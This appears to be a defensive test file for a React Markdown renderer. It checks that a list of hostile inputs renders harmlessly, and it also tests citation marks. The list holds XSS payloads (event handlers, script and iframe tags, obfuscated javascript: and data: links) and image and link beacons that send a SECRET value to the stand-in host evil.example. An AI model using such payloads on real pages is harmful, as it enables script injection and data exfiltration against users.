/** Nothing that a model writes executes or fetches anything. */
import { render, screen } from "@testing-library/react";
import i18next from "i18next";
import { beforeAll, describe, expect, test, vi } from "vitest";
import en from "@/shared/i18n/locales/en";
import { initReactI18next } from "react-i18next";
import MarkdownView from "./MarkdownView";

beforeAll(() => i18next.use(initReactI18next).init({ lng: "en", resources: { en: { translation: en } } }));

// Values with "=" are quoted: CommonMark would take the tag for text.
const HOSTILE = [
  "<img src=x onerror='window.__pwned=1'>",
  "<script>window.__pwned=1</script>",
  "<svg onload='window.__pwned=1'><use href='data:image/svg+xml,<svg/>'/></svg>",
  "<iframe srcdoc='<script>parent.__pwned=1</script>'></iframe>",
  "<a href='javascript:window.__pwned=1'>x</a>",
  "<style>@import url(https://evil.example/x.css)</style>",
  "<form action=https://evil.example><input name=q></form>",
  "<details open ontoggle='window.__pwned=1'>x</details>",
  "[x](javascript:window.__pwned=1)",
  "[x](JaVaScRiPt:window.__pwned=1)",
  "[x](java\tscript:window.__pwned=1)",
  "[x](&#106;avascript:window.__pwned=1)",
  "[x](data:text/html;base64,PHNjcmlwdD53aW5kb3cuX19wd25lZD0xPC9zY3JpcHQ+)",
  "[x](vbscript:msgbox)",
  "[x](//evil.example/path)",
  "[x](/api/v1/session)",
  "<javascript:window.__pwned=1>",
  "![x](https://evil.example/?q=SECRET)",
  "[ref]: https://evil.example/?q=SECRET\n![x][ref]",
  "[![x](https://evil.example/a.png)](javascript:window.__pwned=1)",
  "```mermaid\ngraph TD; A-->B; click A call window.__pwned()\n```",
  "$\\href{javascript:window.__pwned=1}{x}$",
  "- <b onmouseover='window.__pwned=1'>x</b>",
  "| <img src=x onerror='window.__pwned=1'> |\n|---|\n| x |",
  "<button value=1 onclick='window.__pwned=1'>[1]</button>",
];

const FORBIDDEN = "script, img, svg, iframe, style, form, object, embed, link, meta, base, video, audio, picture, source, [srcdoc], [style], [src]";

describe("hostile Markdown", () => {
  test.each(HOSTILE)("%s stays harmless", (text) => {
    const { container } = render(<MarkdownView text={text} />);
    expect(container.querySelectorAll(FORBIDDEN)).toHaveLength(0);
    for (const element of container.querySelectorAll("*")) {
      for (const attribute of element.attributes) expect(attribute.name.startsWith("on")).toBe(false);
    }
    for (const link of container.querySelectorAll("a")) {
      expect(link.getAttribute("href")).toMatch(/^(https?:\/\/|mailto:)/);
      expect(link.rel).toContain("noopener");
    }
    expect((window as unknown as Record<string, unknown>).__pwned).toBeUndefined();
  });

  test("an image becomes a link that nobody follows by itself", () => {
    render(<MarkdownView text="![the plan](https://evil.example/?q=SECRET)" />);
    expect(screen.getByRole("link", { name: "the plan" })).toHaveAttribute("href", "https://evil.example/?q=SECRET");
  });

  test("an answer of five megabytes is shown as plain text", () => {
    const { container } = render(<MarkdownView text={"**word** ".repeat(600_000)} />);
    expect(container.querySelector("pre")).not.toBeNull();
    expect(container.querySelector("strong")).toBeNull();
  });
});

describe("citations", () => {
  test("open the source of that number, and only numbers that have one are marks", () => {
    const onCite = vi.fn();
    render(<MarkdownView text="Tea is hot [2]. See `[2]` and [7]." positions={[1, 2]} onCite={onCite} />);
    const marks = screen.getAllByRole("button");
    expect(marks).toHaveLength(1);
    marks[0]?.click();
    expect(onCite).toHaveBeenCalledWith(2);
    expect(screen.getByText(/and \[7\]/)).toBeInTheDocument();
  });

  test.each([
    ["Tea is hot [1, 3].", [1, 3]],
    ["Tea is hot [1-3].", [1, 2, 3]],
    ["Tea is hot [2–3; 7].", [2, 3]],
    ["茶是热的【2】。", [2]],
    ["Tea was hot [1990-1999].", []],
  ])("%s has the marks that the server counts", (text, expected) => {
    render(<MarkdownView text={text} positions={[1, 2, 3]} />);
    expect(screen.queryAllByRole("button").map((mark) => Number(mark.textContent))).toEqual(expected);
  });
});
